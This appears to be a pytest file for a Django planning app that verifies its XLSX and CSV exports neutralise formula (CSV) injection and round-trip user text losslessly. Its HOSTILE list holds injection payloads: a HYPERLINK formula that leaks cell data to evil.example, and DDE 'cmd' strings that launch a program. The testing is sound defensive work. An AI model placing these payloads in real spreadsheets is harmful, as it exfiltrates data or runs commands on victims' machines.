"""No text from a user becomes a live formula in any spreadsheet or CSV the product writes (OWASP's
CSV-injection guidance), and the plan workbook still round-trips without loss."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from baqylau.core.spreadsheet import csv_text, restore_csv_text
from baqylau.interop.workbook import export_workbook, import_workbook
from baqylau.plans.models import Measure

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",  # an apostrophe first: still one text, and still exactly itself after the round trip
    "''@x",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(demo):
    """Measures whose titles, texts and completion forms a spreadsheet would read as formulas."""
    measures = list(Measure.objects.filter(plan=demo).order_by("code")[: len(HOSTILE)])
    for measure, text in zip(measures, HOSTILE, strict=True):
        measure.title = measure.title_ru = text
        measure.completion_form = text
        measure.save()
    return measures


def _no_formula_in_xlsx(data: bytes):
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                texts.append(cell.value)
    return texts


def _no_formula_in_csv(text: str):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), cell
    return rows


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_register_exports_hold_no_formula(client, users, hostile):
    client.force_login(users["office"])
    xlsx = client.get("/measures/", {"export": "xlsx", "as_of": "2026-01-01"}).content
    assert set(HOSTILE) <= set(_no_formula_in_xlsx(xlsx))  # the texts themselves, as text cells
    body = client.get("/measures/", {"export": "csv", "as_of": "2026-01-01"}).content.decode("utf-8")
    cells = {c for row in _no_formula_in_csv(body) for c in row}
    assert {csv_text(t) for t in HOSTILE} <= cells


def test_export_plan_csv_and_xlsx_hold_no_formula_and_round_trip(demo, hostile, tmp_path):
    export_workbook(demo, tmp_path / "plan.xlsx")
    assert set(HOSTILE) <= set(_no_formula_in_xlsx((tmp_path / "plan.xlsx").read_bytes()))
    export_workbook(demo, tmp_path / "plan.zip")
    with zipfile.ZipFile(tmp_path / "plan.zip") as archive:
        for name in archive.namelist():
            _no_formula_in_csv(archive.read(name).decode("utf-8"))
    for path in ("plan.xlsx", "plan.zip"):
        result = import_workbook(tmp_path / path, plan_code=demo.code)
        assert not result.problems and not (result.created or result.updated), (path, result.updated)
    assert sorted(
        Measure.objects.filter(pk__in=[m.pk for m in hostile]).values_list("title", flat=True)
    ) == sorted(HOSTILE)


def test_the_commands_csv_holds_no_formula(hostile):
    out = io.StringIO()
    call_command("measures", "--format", "csv", stdout=out)
    cells = {c for row in _no_formula_in_csv(out.getvalue()) for c in row}
    assert {csv_text(t) for t in HOSTILE} <= cells


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "plain", "'plain", "'-", "a=b", " =x"])
def test_the_csv_mark_comes_off_exactly(text):
    assert restore_csv_text(csv_text(text)) == text
    assert not csv_text(text).startswith(TRIGGERS)
